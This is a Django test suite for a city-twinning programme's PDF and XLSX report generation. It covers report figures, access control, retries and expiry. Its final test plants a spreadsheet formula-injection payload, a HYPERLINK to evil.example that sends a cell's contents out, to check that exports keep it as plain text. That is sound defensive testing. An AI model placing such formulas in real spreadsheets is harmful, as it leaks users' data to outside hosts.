import io
from pathlib import Path

import pytest
from django.core import mail
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from cities import seed as cities_seed
from tests.twinning.factories import ActionFactory, ActionProgressUpdateFactory, PairingFactory
from twinning import seed as twinning_seed
from twinning.models import Action, Edition, Pairing
from worldcities.reports import services
from worldcities.reports.models import Report
from worldcities.reports.tasks import generate_report


@pytest.fixture
def korea(db, coordinator):
    cities_seed.load()
    twinning_seed.load()
    edition = Edition.objects.get(slug="2017-2018-korea")
    edition.coordinators.add(coordinator)
    busan = Pairing.objects.get(slug="busan-barcelona-2017-2018")
    ActionFactory(
        pairing=busan, title="Hydrogen bus pilot", status=Action.Status.DONE, progress=100
    )
    ActionFactory(pairing=busan, title="Innovation district study", progress=30)
    return edition


def sheet(workbook, title: str):
    """The sheet of a table (sheet names are cut to Excel's 31 characters)."""
    return next(ws for ws in workbook.worksheets if title.startswith(ws.title.strip()))


def build(report) -> bytes:
    assert generate_report(str(report.pk)) is True
    report.refresh_from_db()
    assert report.status == Report.Status.READY
    return report.file.read()


@pytest.mark.django_db
def test_edition_report_pdf_holds_the_right_figures(korea, coordinator):
    report = services.report_request(kind="edition", target=korea, fmt="pdf", by=coordinator)
    pages = PdfReader(io.BytesIO(build(report))).pages
    text = " ".join(" ".join(page.extract_text() for page in pages).split())
    assert "Edition progress: World Cities 2017–2018: EU – Republic of Korea" in text
    assert "Busan – Barcelona" in text
    assert "Suwon – Scottish Cities Alliance" in text
    assert "Pairings by status" in text
    assert "Triple-helix mix" in text


@pytest.mark.django_db
def test_edition_report_xlsx_holds_the_right_figures(korea, coordinator):
    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    workbook = load_workbook(io.BytesIO(build(report)))
    figures = {row[0]: row[1] for row in workbook["Summary"].iter_rows(min_row=4, values_only=True)}
    assert figures["Pairings"] == 4
    assert figures["Actions"] == 2
    assert figures["Actions done"] == 1
    by_status = dict(workbook["Pairings By Status"].iter_rows(min_row=2, values_only=True))
    assert by_status["Closed"] == 4
    plans = {row[0]: row for row in workbook["Action Plans"].iter_rows(min_row=2, values_only=True)}
    # The study was due in March 2018 and is not done: late.
    assert plans["Busan – Barcelona"][1:5] == (2, 1, 1, 0)
    assert plans["Busan – Barcelona"][5] == 65


@pytest.mark.django_db
def test_pairing_one_pager(korea, coordinator):
    pairing = Pairing.objects.get(slug="busan-barcelona-2017-2018")
    report = services.report_request(kind="pairing", target=pairing, fmt="xlsx", by=coordinator)
    workbook = load_workbook(io.BytesIO(build(report)))
    members = list(workbook["Members"].iter_rows(min_row=2, values_only=True))
    assert ("Barcelona", "Spain", "EU", "Lead") in members
    actions = [row[0] for row in workbook["Action Plan"].iter_rows(min_row=2, values_only=True)]
    assert actions == ["Hydrogen bus pilot", "Innovation district study"]


@pytest.mark.django_db
def test_the_reports_show_each_actions_latest_progress_note(korea, coordinator):
    study = Action.objects.get(title="Innovation district study")
    ActionProgressUpdateFactory(action=study, note="Site survey of the old port sheds.")
    ActionProgressUpdateFactory(action=study, note="Zoning options drafted with the university.")
    latest = "Zoning options drafted with the university."
    pairing = study.pairing

    one_pager = services.report_request(kind="pairing", target=pairing, fmt="xlsx", by=coordinator)
    rows = load_workbook(io.BytesIO(build(one_pager)))["Action Plan"].iter_rows(values_only=True)
    rows = {row[0]: row for row in rows}
    assert rows["Action"][4] == "Latest update"
    assert rows["Innovation district study"][4] == latest
    assert rows["Hydrogen bus pilot"][4] in ("", None)

    edition = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    workbook = load_workbook(io.BytesIO(build(edition)))
    rows = list(sheet(workbook, "Latest Progress Of Each Action").iter_rows(values_only=True))
    assert rows[0] == (
        "Pairing",
        "Action",
        "Status",
        "Progress (%)",
        "Updated on",
        "What was done",
    )
    study_row = next(row for row in rows if row[1] == "Innovation district study")
    assert study_row[0] == "Busan – Barcelona"
    assert study_row[2:4] == ("In progress", 30)
    assert study_row[5] == latest

    pdf = services.report_request(kind="edition", target=korea, fmt="pdf", by=coordinator)
    pages = PdfReader(io.BytesIO(build(pdf))).pages
    text = " ".join(" ".join(page.extract_text() for page in pages).split())
    assert "Latest progress of each action" in text
    assert latest in text


@pytest.mark.django_db
def test_the_requester_is_told_when_the_report_is_ready(
    korea, coordinator, django_capture_on_commit_callbacks
):
    report = services.report_request(kind="edition", target=korea, fmt="pdf", by=coordinator)
    with django_capture_on_commit_callbacks():
        build(report)
    assert coordinator.notifications.filter(kind="report_ready").count() == 1
    from worldcities.notifications.tasks import send_email

    send_email(coordinator.notifications.get().email_id)
    assert "Your report is ready" in mail.outbox[-1].subject


@pytest.mark.django_db
def test_an_interrupted_report_leaves_no_file_and_succeeds_on_retry(
    korea, coordinator, monkeypatch, client
):
    report = services.report_request(kind="edition", target=korea, fmt="pdf", by=coordinator)
    original_replace = services.os.replace

    def killed(*args, **kwargs):
        raise SystemExit("worker killed while writing")

    monkeypatch.setattr(services.os, "replace", killed)
    with pytest.raises(SystemExit):
        services.report_generate(report_id=report.pk)
    report.refresh_from_db()
    assert report.status == Report.Status.RUNNING
    assert not report.file
    folder = Path(services.default_storage.path("reports"))
    assert [p.name for p in folder.iterdir()] == []  # not even the partial file
    client.force_login(coordinator)
    assert client.get(f"/reports/{report.pk}/download/").status_code == 404

    monkeypatch.setattr(services.os, "replace", original_replace)
    assert services.report_generate(report_id=report.pk) is True
    response = client.get(f"/reports/{report.pk}/download/")
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    report.refresh_from_db()
    assert report.attempts == 2


@pytest.mark.django_db
def test_a_report_built_twice_is_built_once(korea, coordinator):
    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    assert generate_report(str(report.pk)) is True
    assert generate_report(str(report.pk)) is False


@pytest.mark.django_db
def test_nobody_else_downloads_my_report(
    korea, coordinator, other_coordinator, delegate, programme_staff, client
):
    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    build(report)
    url = f"/reports/{report.pk}/download/"
    for outsider in (other_coordinator, delegate):
        client.force_login(outsider)
        assert client.get(url).status_code == 404
        assert client.get(f"/reports/{report.pk}/").status_code == 404
    client.logout()
    assert client.get(url).status_code == 302
    client.force_login(programme_staff)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.django_db
def test_only_coordinators_of_the_edition_and_staff_may_ask(
    korea, other_coordinator, delegate, client
):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.report_request(kind="edition", target=korea, fmt="pdf", by=other_coordinator)
    client.force_login(other_coordinator)
    response = client.post("/reports/", {"kind": "edition", "edition": korea.pk, "format": "pdf"})
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()
    client.force_login(delegate)
    assert client.get("/reports/").status_code == 403
    assert not Report.objects.exists()


@pytest.mark.django_db
def test_the_request_page_shows_progress_then_the_download(korea, coordinator, client):
    client.force_login(coordinator)
    pairing = Pairing.objects.get(slug="busan-barcelona-2017-2018")
    response = client.post("/reports/", {"kind": "pairing", "edition": korea.pk, "format": "pdf"})
    assert "Choose the pairing the one-pager is about." in response.content.decode()
    response = client.post(
        "/reports/",
        {"kind": "pairing", "edition": korea.pk, "pairing": pairing.pk, "format": "pdf"},
    )
    report = Report.objects.get()
    assert response["Location"] == report.get_absolute_url()
    partial = client.get(report.get_absolute_url(), HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 2s"' in partial
    assert "<progress" in partial
    build(report)
    partial = client.get(report.get_absolute_url(), HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in partial
    assert "Download (PDF)" in partial


@pytest.mark.django_db
def test_old_report_files_expire(korea, coordinator):
    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    build(report)
    path = Path(report.file.path)
    assert path.exists()
    assert services.reports_expire() == 0
    later = timezone.now() + timezone.timedelta(days=8)
    assert services.reports_expire(now=later) == 1
    report.refresh_from_db()
    assert report.status == Report.Status.EXPIRED
    assert not path.exists()


@pytest.mark.django_db
def test_report_list_uses_flat_queries(coordinator, edition, client, assert_flat_queries):
    client.force_login(coordinator)

    def make(n):
        for _ in range(n):
            Report.objects.create(
                kind="edition",
                format="pdf",
                target_id=edition.pk,
                title="R",
                requested_by=coordinator,
            )

    PairingFactory(edition=edition)
    assert_flat_queries(make, lambda: client.get("/reports/"))


@pytest.mark.django_db
def test_edition_report_counts_meetings_practices_and_adoptions(korea, coordinator):
    from meetings.models import Meeting
    from practices.services import practice_transfer_set
    from tests.meetings.factories import MeetingFactory, QuotaFactory, RegistrationFactory
    from tests.practices.factories import PracticeFactory

    busan = Pairing.objects.get(slug="busan-barcelona-2017-2018")
    meeting = MeetingFactory(edition=korea, title="Closing meeting", status=Meeting.Status.HELD)
    QuotaFactory(meeting=meeting, city=busan.partner_lead, places=4)
    QuotaFactory(meeting=meeting, city=busan.eu_lead, places=5)
    RegistrationFactory(meeting=meeting, person__city=busan.partner_lead, attended=True)
    RegistrationFactory(meeting=meeting, person__city=busan.eu_lead, attended=False)
    practice = PracticeFactory(city=busan.eu_lead, pairing=busan, title="Hydrogen buses")
    practice.thematic_areas.add(busan.thematic_areas.get(name="Climate Change"))
    practice_transfer_set(
        practice=practice, by=None, status="adopted", story="Two routes.", city=busan.partner_lead
    )
    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    workbook = load_workbook(io.BytesIO(build(report)))
    figures = {row[0]: row[1] for row in workbook["Summary"].iter_rows(min_row=4, values_only=True)}
    assert figures["Meetings held"] == 1
    assert figures["Practices published"] == 1
    assert figures["Practices adopted by other cities"] == 1
    meetings = list(
        sheet(workbook, "Meetings Attendance Against Quotas").iter_rows(min_row=2, values_only=True)
    )
    assert meetings[0][:4] == ("Closing meeting", 9, 2, 1)
    areas = dict(
        row[:2]
        for row in sheet(workbook, "Practices By Thematic Area").iter_rows(
            min_row=2, values_only=True
        )
    )
    assert areas["Climate Change"] == 1
    adopted = list(
        sheet(workbook, "Practices Adopted By Other Cities").iter_rows(min_row=2, values_only=True)
    )
    assert adopted == [("Hydrogen buses", "Barcelona", "Busan")]

    one_pager = services.report_request(kind="pairing", target=busan, fmt="xlsx", by=coordinator)
    exchanged = sheet(load_workbook(io.BytesIO(build(one_pager))), "Practices Exchanged")
    rows = list(exchanged.iter_rows(min_row=2, values_only=True))
    assert rows == [("Hydrogen buses", "Barcelona", "Busan (Adopted)")]


@pytest.mark.django_db
def test_meeting_report_pdf_and_xlsx(edition, coordinator, eu_city, partner_city):
    from meetings.models import Meeting, MeetingOutcome
    from tests.meetings.factories import (
        EvaluationFactory,
        MeetingFactory,
        QuotaFactory,
        RegistrationFactory,
    )
    from tests.twinning.factories import ActionFactory

    meeting = MeetingFactory(
        edition=edition,
        title="Working meeting in Gwangju",
        status=Meeting.Status.EVALUATED,
        minutes="Agreed to share open mobility data.",
    )
    QuotaFactory(meeting=meeting, city=eu_city, places=5)
    for attended in (True, True, False):
        RegistrationFactory(meeting=meeting, person__city=eu_city, attended=attended)
    EvaluationFactory(meeting=meeting, overall=5, comments="Very useful site visits.")
    EvaluationFactory(meeting=meeting, overall=3, comments="")
    action = ActionFactory(pairing__edition=edition, title="Open data portal")
    MeetingOutcome.objects.create(meeting=meeting, action=action)

    report = services.report_request(kind="meeting", target=meeting, fmt="xlsx", by=coordinator)
    workbook = load_workbook(io.BytesIO(build(report)))
    attendance = list(
        sheet(workbook, "Attendance By City Against Quota").iter_rows(min_row=2, values_only=True)
    )
    assert attendance == [(eu_city.name, 5, 3, 2)]
    results = {
        row[0]: row
        for row in sheet(workbook, "Evaluation Results").iter_rows(min_row=2, values_only=True)
    }
    assert results["Overall"][1] == 4
    assert results["Overall"][2:] == (0, 0, 1, 0, 1)
    actions = list(sheet(workbook, "Actions Decided").iter_rows(min_row=2, values_only=True))
    assert actions[0][0] == "Open data portal"

    pdf_report = services.report_request(kind="meeting", target=meeting, fmt="pdf", by=coordinator)
    pages = PdfReader(io.BytesIO(build(pdf_report))).pages
    text = " ".join(" ".join(page.extract_text() for page in pages).split())
    assert "Agreed to share open mobility data." in text
    assert "Very useful site visits." in text
    for evaluation_author in meeting.evaluations.select_related("person"):
        assert evaluation_author.person.full_name not in text


@pytest.mark.django_db
def test_a_meeting_report_needs_a_meeting_of_the_edition(korea, coordinator, client):
    from tests.meetings.factories import MeetingFactory

    elsewhere = MeetingFactory()
    ours = MeetingFactory(edition=korea)
    client.force_login(coordinator)
    response = client.post("/reports/", {"kind": "meeting", "edition": korea.pk, "format": "pdf"})
    assert "Choose the meeting the report is about." in response.content.decode()
    response = client.post(
        "/reports/",
        {"kind": "meeting", "edition": korea.pk, "meeting": elsewhere.pk, "format": "pdf"},
    )
    assert "Select a valid choice" in response.content.decode()
    assert not Report.objects.exists()
    response = client.post(
        "/reports/", {"kind": "meeting", "edition": korea.pk, "meeting": ours.pk, "format": "pdf"}
    )
    assert response.status_code == 302
    assert Report.objects.get().target_id == ours.pk


@pytest.mark.django_db
def test_a_coordinator_removed_from_the_edition_loses_its_reports(korea, coordinator, client):
    report = services.report_request(kind="edition", target=korea, fmt="xlsx", by=coordinator)
    build(report)
    client.force_login(coordinator)
    assert client.get(f"/reports/{report.pk}/download/").status_code == 200
    korea.coordinators.remove(coordinator)
    assert client.get(f"/reports/{report.pk}/download/").status_code == 404
    assert client.get(f"/reports/{report.pk}/").status_code == 404


@pytest.mark.django_db
def test_text_that_looks_like_a_formula_stays_text_in_xlsx(korea, coordinator):
    busan = Pairing.objects.get(slug="busan-barcelona-2017-2018")
    ActionFactory(pairing=busan, title='=HYPERLINK("https://evil.example/?"&A1,"Open")')
    report = services.report_request(kind="pairing", target=busan, fmt="xlsx", by=coordinator)
    workbook = load_workbook(io.BytesIO(build(report)))
    cells = [c for row in sheet(workbook, "Action Plan").iter_rows(min_row=2) for c in row]
    titles = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert titles and all(c.data_type == "s" and c.value.startswith("'=") for c in titles)
